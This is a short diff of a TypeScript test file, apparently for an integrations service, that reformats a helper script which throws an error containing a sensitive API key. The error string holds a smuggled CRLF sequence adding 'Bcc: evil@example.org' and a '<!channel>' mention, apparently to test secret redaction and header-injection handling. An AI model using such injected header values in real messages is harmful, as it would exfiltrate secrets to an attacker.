@@ -124,7 +124,8 @@ async function post(type: string, payload: object, times = 1): Promise<void> {
 
 /** A script that fails as its activity tells it to, with a secret in its error. */
 async function addFailing(type: string): Promise<string> {
-  const script = `if (activity.payload.fail) throw new Error('boom <!channel>\\r\\nBcc: evil@example.org ' + variables.api_key)`;
+  const script = `if (activity.payload.fail)
+    throw new Error('boom <!channel>\\r\\nBcc: evil@example.org ' + variables.api_key)`;
   const id = await system.addIntegration({ type: 'script', script, events: [type] });
   const variable = { name: 'api_key', value: 'very-secret-value', is_sensitive: true };
   await system.call('POST', `/projects/${project}/integrations/${id}/variables`, variable);
